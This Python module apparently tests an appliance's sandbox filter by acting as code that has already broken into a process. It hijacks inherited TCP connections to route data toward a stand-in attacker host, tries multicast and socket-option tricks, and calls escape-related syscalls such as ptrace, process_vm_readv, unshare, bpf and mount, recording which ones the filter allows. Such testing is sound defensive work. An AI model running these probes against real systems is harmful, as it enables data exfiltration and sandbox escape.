"""What code does after it has broken into a process of the appliance. It looks for connections among the process's
descriptors, and tries to get a byte to its own host, to see the network, to run a program and to free itself. It knows
of no filter.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import os
import socket
import struct
from collections.abc import Callable

ATTACKER = "fd00:bad::1"  # in no network of the machine: behind its default route
GROUP4, GROUP6, SOURCE4 = "239.77.77.77", "ff15::7777:7777", "192.0.2.77"
TEXT = b"THE PROMPT OF SOMEBODY"
_INTERFACE, _LINK = b"quiet0\0", 3  # in the test's network, where lo is 1 and the other end of the link is 2
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long

Outcomes = dict[str, str]


def call(number: int, *arguments: int | bytes | None) -> int:
    """Make one x86_64 system call."""
    values = [ctypes.c_long(value) if isinstance(value, int) else value for value in arguments]
    answer = int(_libc.syscall(ctypes.c_long(number), *values))
    if answer < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return answer


def connections() -> list[socket.socket]:
    """Accepted TCP connections among the descriptors of this process."""
    found = []
    for fd in range(3, 64):
        with contextlib.suppress(OSError):
            sock = socket.socket(fileno=os.dup(fd))
            if sock.family in (socket.AF_INET, socket.AF_INET6) and sock.getpeername():
                found.append(sock)
    return found


def re_route(connection: socket.socket) -> None:
    """A segment routing header (type 4): packets go to the attacker's host first."""
    segments = b"\0" * 16 + socket.inet_pton(socket.AF_INET6, ATTACKER)
    header = struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + segments
    connection.setsockopt(socket.IPPROTO_IPV6, 57, header)
    connection.send(TEXT)


def _group4(*addresses: str) -> bytes:
    return b"".join(struct.pack("=HH4s120x", socket.AF_INET, 0, socket.inet_aton(address)) for address in addresses)


def _group6(address: str) -> bytes:
    packed = socket.inet_pton(socket.AF_INET6, address)
    return struct.pack("=HHI16sI100x", socket.AF_INET6, 0, 0, packed, 0)


def tries_on(connection: socket.socket) -> dict[str, Callable[[], object]]:
    """What an attacker can do to a connection that somebody else opened."""
    link = _LINK  # a number that the filter knows: asking for it would be refused
    index = struct.pack("=I4x", link)
    option, ip, ip6, tcp, sol = (
        connection.setsockopt, socket.IPPROTO_IP, socket.IPPROTO_IPV6, socket.IPPROTO_TCP, socket.SOL_SOCKET,
    )  # fmt: skip
    return {
        "IPV6_RTHDR": lambda: re_route(connection),
        "IPv6 MCAST_JOIN_GROUP": lambda: option(ip6, 42, index + _group6(GROUP6)),
        "IPv6 MCAST_JOIN_SOURCE_GROUP": lambda: option(ip6, 46, index + _group6(GROUP6) + _group6(ATTACKER)),
        "IPV6_JOIN_GROUP": lambda: option(ip6, 20, socket.inet_pton(socket.AF_INET6, GROUP6) + struct.pack("=I", link)),
        "MCAST_JOIN_GROUP": lambda: option(ip, 42, index + _group4(GROUP4)),
        "MCAST_JOIN_SOURCE_GROUP": lambda: option(ip, 46, index + _group4(GROUP4, SOURCE4)),
        "IP_ADD_SOURCE_MEMBERSHIP": lambda: option(
            ip, 39, socket.inet_aton("239.77.77.78") + socket.inet_aton("198.51.100.1") + socket.inet_aton(SOURCE4)
        ),
        "IP_ADD_MEMBERSHIP": lambda: option(ip, 35, socket.inet_aton(GROUP4) + socket.inet_aton("198.51.100.1")),
        "IP_OPTIONS": lambda: option(ip, 4, b"\x83\x07\x04\xc6\x33\x64\x01\0"),
        "SO_BINDTODEVICE": lambda: option(sol, 25, _INTERFACE),
        "SO_MARK": lambda: option(sol, 36, 1),
        "SO_PRIORITY": lambda: option(sol, 12, 6),
        "SO_ATTACH_FILTER": lambda: option(sol, 26, b"\0" * 16),
        "TCP_CONGESTION": lambda: option(tcp, 13, b"reno"),
        "TCP_ULP": lambda: option(tcp, 31, b"tls"),
        "TCP_REPAIR": lambda: option(tcp, 19, 1),
        "SIOCGIFCONF": lambda: call(16, connection.fileno(), 0x8912, b"\0" * 16),
    }


def tries() -> dict[str, Callable[[], object]]:
    """What the attacker can do without a connection."""
    inet, stream = socket.AF_INET, socket.SOCK_STREAM
    return {
        "socket": lambda: socket.socket(inet, stream).close(),
        "UDP socket": lambda: socket.socket(inet, socket.SOCK_DGRAM).sendto(TEXT, ("198.51.100.1", 9)),
        "D-Bus": lambda: socket.socket(socket.AF_UNIX, stream).connect("/run/dbus/system_bus_socket"),
        "netlink": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW).close(),
        "execve": lambda: os.execv("/bin/true", ["true"]),  # noqa: S606 - it must be refused
        "io_uring": lambda: call(425, 1, b"\0" * 120),
        "unshare": lambda: call(272, 0x10000000),
        "ptrace": lambda: call(101, 16, os.getppid(), None, None),
        "pidfd_open": lambda: call(434, os.getppid(), 0),
        "process_vm_readv": lambda: call(310, os.getppid(), None, 0, None, 0, 0),
        "bpf": lambda: call(321, 0, b"\0" * 72, 72),
        "perf_event_open": lambda: call(298, b"\0" * 112, 0, -1, -1, 0),
        "userfaultfd": lambda: call(323, 1),
        "keyctl": lambda: call(250, 0, -3, 0),
        "memfd_create": lambda: call(319, b"x\0", 0),
        "a filter of its own": lambda: call(317, 1, 8, b"\0" * 16),
        "TUNSETIFF": lambda: call(16, 0, 0x400454CA, b"tap0".ljust(40, b"\0")),
        "a signal to everybody": lambda: os.kill(-1, 0),
        "mount": lambda: call(165, b"none\0", b"/\0", b"tmpfs\0", 0, None),
        "a call without a name": lambda: call(400),
    }


def attack(connection: socket.socket | None) -> Outcomes:
    """Try everything. Maps each attempt to the name of its errno, or to OPEN."""
    everything = ({} if connection is None else tries_on(connection)) | tries()
    outcomes: Outcomes = {}
    for name, attempt in everything.items():
        try:
            attempt()
            outcomes[name] = "OPEN"
        except OSError as exc:
            outcomes[name] = errno.errorcode.get(exc.errno or 0, "?")
    return outcomes
